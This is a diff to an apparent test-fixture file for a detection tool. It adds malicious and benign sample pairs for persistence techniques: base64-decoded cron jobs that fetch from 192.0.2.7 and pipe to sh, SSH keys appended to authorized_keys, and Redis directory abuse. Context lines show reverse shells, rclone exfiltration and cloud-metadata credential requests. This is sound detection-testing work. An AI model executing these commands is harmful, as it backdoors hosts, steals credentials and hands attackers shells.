@@ -798,6 +798,15 @@ SAMPLES = {
     "tunnel_3proxy_command": (
         ("a.log", "c:\\perflogs\\3proxy.exe c:\\perflogs\\3proxy.cfg\r\n"),
         ("h", "/usr/bin/3proxy /etc/3proxy/3proxy.cfg\n")),
+    "persistence_cron_decoded": (
+        ("root", "*/5 * * * * echo Y3VybCAxOTIuMC4yLjcvYQ== | base64 -d | sh\n"),
+        ("root", "*/5 * * * * base64 -d /srv/in/x > /srv/out/x\n")),
+    "persistence_authorized_key_echoed": (
+        ("h", 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDEx x@y" >> /root/.ssh/authorized_keys\n'),
+        ("h", 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDEx x@y" > key.pub; ssh-copy-id -i key.pub h; cat ~/.ssh/authorized_keys\n')),
+    "persistence_authorized_key_by_service": (
+        ("h", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x' >> /var/www/.ssh/authorized_keys\n"),
+        ("h", "redis-cli config set dir /var/lib/redis\n")),
     "credential_cloud_metadata_asked": (
         ("h", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n"),
         ("h", "curl -s http://169.254.169.254/latest/meta-data/instance-id\n")),
@@ -1087,6 +1096,10 @@ QUOTED_PLAIN = [
     ("lotl_rclone_exfiltration", "/dev/shm/.c/rclone copy /home pcloud:h"),
     ("lotl_packed_text_to_shell", "echo aWQgPiAvdG1wL3gK | base64 -d | sh"),
     ("lotl_packed_text_to_shell", "echo 'aWQgPiAvdG1wL3gK' | openssl base64 -d | bash"),
+    ("persistence_cron_decoded", "@reboot root echo aWQgPiAvdG1wL3gK|base64 --decode|/bin/bash"),
+    ("persistence_authorized_key_echoed", 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 kali@kali" | tee -a ~/.ssh/authorized_keys'),
+    ("persistence_authorized_key_by_service", "GET /x.php?cmd=echo%20ssh-rsa%20AAAAB3NzaC1yc2EAAAADAQAB%20x%20>>/root/.ssh/authorized_keys"),
+    ("persistence_authorized_key_by_service", "CONFIG SET dir /root/.ssh/"),
     ("reverse_shell_in_audit_record", audit(["nc", "-e", "/bin/sh", "192.0.2.7", "443"])),
     ("reverse_shell_in_audit_record", audit(["sh", "-c", "nc -e /bin/bash 192.0.2.7 443"])),
     ("reverse_shell_in_audit_record", audit(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",443));os.dup2(s.fileno(),0);pty.spawn("sh")'])),
